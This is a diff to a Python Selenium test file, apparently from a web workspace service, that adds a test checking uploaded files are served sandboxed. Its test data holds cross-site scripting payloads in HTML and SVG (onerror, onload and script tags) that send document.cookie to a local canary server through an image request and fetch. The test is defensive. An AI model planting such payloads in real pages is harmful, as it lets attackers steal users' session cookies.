@@ -1,9 +1,11 @@
 """The workspace's files: shown, looked at, taken out, put in, and never trusted."""
 
 import os
+import socket
 import zipfile
 from pathlib import Path
 
+import pytest
 from selenium.webdriver.common.by import By
 
 from tests.browser.chromium import Browser
@@ -179,3 +181,32 @@ def test_hostile_names(page: Browser, service: Service) -> None:
         assert "could not be read" not in page.text("dialog")
         page.click("dialog [aria-label='Close']")
     assert not page.js("return window.pwned")
+
+
+def test_hostile_files_opened_themselves(page: Browser, service: Service) -> None:
+    """HTML and SVG that are opened by their own address run nothing, reach nobody and see no cookie."""
+    with socket.create_server(("127.0.0.1", 0)) as canary:
+        canary.setblocking(False)
+        there = f"http://127.0.0.1:{canary.getsockname()[1]}"
+        run = f"document.title='pwned';new Image().src='{there}/'+document.cookie;fetch('{there}')"
+        html = f"<img src=x onerror=\"{run}\"><script>{run}</script><iframe src='{there}'></iframe>"
+        svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
+        contents = {"evil.html": html, "evil.svg": svg, "evil.png": html, "evil": html, "evil.xhtml": svg}
+        with_files(page, service, **{name: text.encode() for name, text in contents.items()})
+        page.cdp("Network.setCookie", url=service.url, name="secret", value="canary")
+        assert "canary" in page.js("return document.cookie")
+        files = f"{service.url}api/v1/sessions/{page.session}/files/"
+        for name in contents:
+            page.driver.get(files + name)  # a download: the page stays
+            saved = page.downloads / name
+            page.until(saved.exists, f"{name} saved")
+            page.driver.get(f"{files}{name}?preview=1")
+            assert page.js("return document.readyState") == "complete"
+            assert page.js("return document.title") != "pwned"
+            assert page.js("return window.origin") == "null"
+            read = "try { return document.cookie } catch (error) { return error.name }"
+            assert page.js(read) == "SecurityError"
+            page.driver.get(service.url)
+        with pytest.raises(BlockingIOError):
+            canary.accept()
+    page.console()
